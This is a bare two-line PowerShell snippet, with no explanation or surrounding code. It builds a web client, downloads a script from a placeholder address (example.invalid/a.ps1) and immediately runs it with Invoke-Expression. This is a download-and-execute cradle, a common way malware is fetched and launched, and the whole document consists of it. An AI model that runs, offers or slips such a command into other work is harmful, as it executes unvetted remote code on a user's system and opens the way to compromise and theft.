$c = New-Object Net.WebClient
Invoke-Expression $c.DownloadString('http://example.invalid/a.ps1')
